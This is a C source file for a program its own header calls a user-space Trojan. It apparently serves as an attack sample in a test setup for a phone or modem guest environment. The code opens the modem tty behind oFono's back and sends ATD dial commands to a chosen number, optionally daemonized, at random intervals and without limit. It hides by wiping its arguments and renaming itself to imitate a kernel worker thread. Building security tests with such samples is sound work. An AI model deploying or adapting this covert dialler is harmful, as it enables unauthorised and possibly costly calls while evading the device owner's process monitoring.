/* SPDX-License-Identifier: BSD-2-Clause */
/*
 * The Trojan in user space: writes the modem's tty behind oFono's back, in the background
 * and under the name of a kernel thread.
 *     trojan-user NUMBER [MIN_MS MAX_MS SEED COUNT]     without times: one call at once
 */
#include "modem_tty.h"

#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/prctl.h>
#include <time.h>
#include <unistd.h>

struct plan {
    const char *number;
    uint32_t min_ms, max_ms, seed;
    unsigned long count;
};

static bool dial(int tty, const char *number)
{
    char line[128];
    (void)snprintf(line, sizeof line, "\rATD%s;\r", number);
    return modem_tty_send(tty, line);
}

static void announce(unsigned long call, const char *number)
{
    FILE *console = fopen("/run/console", "w");
    if (console != NULL) {
        fprintf(console, "ROBIN-GUEST: trojan-user call %lu to %s\n", call, number);
        fclose(console);
    }
}

/* xorshift32 (Marsaglia 2003): repeatable times for a test. */
static uint32_t next_random(uint32_t *seed)
{
    *seed ^= *seed << 13;
    *seed ^= *seed >> 17;
    *seed ^= *seed << 5;
    return *seed;
}

static void sleep_some(struct plan *p)
{
    uint32_t range = p->max_ms > p->min_ms ? p->max_ms - p->min_ms : 1;
    uint32_t ms = p->min_ms + next_random(&p->seed) % range;
    struct timespec pause = { .tv_sec = (time_t)(ms / 1000),
                              .tv_nsec = (long)(ms % 1000) * 1000000 };
    nanosleep(&pause, NULL);
}

static void hide(int argc, char **argv)
{
    for (int i = 0; i < argc; i++) {
        memset(argv[i], 0, strlen(argv[i]));
    }
    prctl(PR_SET_NAME, "kworker/0:1-eve");
}

static uint32_t number_argument(int argc, char **argv, int index, uint32_t otherwise)
{
    return argc > index ? (uint32_t)strtoul(argv[index], NULL, 0) : otherwise;
}

int main(int argc, char **argv)
{
    if (argc < 2) {
        fprintf(stderr, "usage: trojan-user NUMBER [MIN_MS MAX_MS SEED COUNT]\n");
        return 2;
    }
    struct plan plan = { .number = strdup(argv[1]),
                         .min_ms = number_argument(argc, argv, 2, 0),
                         .max_ms = number_argument(argc, argv, 3, 0),
                         .seed = number_argument(argc, argv, 4, 1) | 1,
                         .count = number_argument(argc, argv, 5, 1) };
    bool is_lurking = argc > 2;
    int tty = modem_tty_open();
    if (tty < 0 || (is_lurking && daemon(0, 0) != 0)) {
        return 1;
    }
    hide(argc, argv);
    for (unsigned long call = 1; plan.count == 0 || call <= plan.count; call++) {
        if (is_lurking) {
            sleep_some(&plan);
        }
        if (!dial(tty, plan.number)) {
            return 1;
        }
        announce(call, plan.number);
    }
    return 0;
}
